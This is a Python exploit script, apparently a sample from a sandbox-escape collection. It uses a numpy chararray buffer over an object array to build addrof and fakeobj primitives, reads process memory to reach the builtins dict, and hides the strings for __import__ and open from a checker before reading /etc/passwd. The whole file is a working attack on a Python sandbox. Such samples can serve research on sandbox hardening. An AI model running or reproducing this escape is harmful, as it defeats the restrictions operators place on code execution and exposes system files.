# source: numpy/core/defchararray.py chararray.__new__ passes buffer= to ndarray.__new__; fakeobj/addrof technique from CTF pyjail write-ups; CPython 3.11 Include/cpython/funcobject.h (func_builtins at +24)
# family: ndarray subclass constructor (chararray) with a buffer over an object array -> addrof/fakeobj -> builtins dict
# goal: reach the builtins dict by pointer, then import `this` and read /etc/passwd with builtins the check refuses
import numpy as np


def probe():
    return 0


slots = np.array([None, None, None, None], dtype=object)
slots[0] = bytearray
slots[1] = probe
raw = np.chararray((4,), 8, False, slots)
b = raw.tobytes()
p_batype = int.from_bytes(b[0:8], "little")
p_func = int.from_bytes(b[8:16], "little")
big = 2 ** 62
fake = big.to_bytes(8, "little") + p_batype.to_bytes(8, "little") + big.to_bytes(8, "little") + big.to_bytes(8, "little") + bytes(24)
slots[2] = fake
b = raw.tobytes()
p_fake = int.from_bytes(b[16:24], "little") + 32
raw[2] = p_fake.to_bytes(8, "little")
mem = slots[2]
p_builtins = int.from_bytes(bytes(mem[p_func + 24:p_func + 32]), "little")
raw[3] = p_builtins.to_bytes(8, "little")
bi = slots[3]
print("builtins dict reached by pointer:", type(bi).__name__, len(bi))
u = chr(95) * 2
imp = bi[u + "import" + u]
imp("this")
op = bi["op" + "en"]
path = chr(47) + "etc" + chr(47) + "passwd"
print(op(path).read()[:200])
